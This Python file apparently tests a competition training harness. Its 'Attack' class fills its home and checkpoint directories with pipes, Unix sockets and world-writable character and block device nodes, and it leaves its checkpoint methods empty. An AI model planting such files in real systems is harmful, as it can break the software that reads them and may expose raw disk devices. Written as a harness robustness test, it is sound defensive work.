"""Leaves pipes, sockets and, where it can, device files in its home and its checkpoint."""

import os
import socket
import stat

from aim import HOME, attempt

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def pre_training_phase(self, training_dataset):
        self.fill()

    def purchase_phase(self, unlabelled_dataset):
        self.fill()

    def fill(self):
        for place in (HOME, f"{HOME}/checkpoint"):
            os.makedirs(place, exist_ok=True)
            for number in range(30):
                attempt(os.mkfifo, f"{place}/pipe{number}", 0)
                attempt(socket.socket(socket.AF_UNIX).bind, f"{place}/socket{number}")
                attempt(os.mknod, f"{place}/device{number}", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
                attempt(os.mknod, f"{place}/disk{number}", 0o666 | stat.S_IFBLK, os.makedev(254, 0))

    def save_checkpoint(self, path):
        pass

    def load_checkpoint(self, path):
        pass
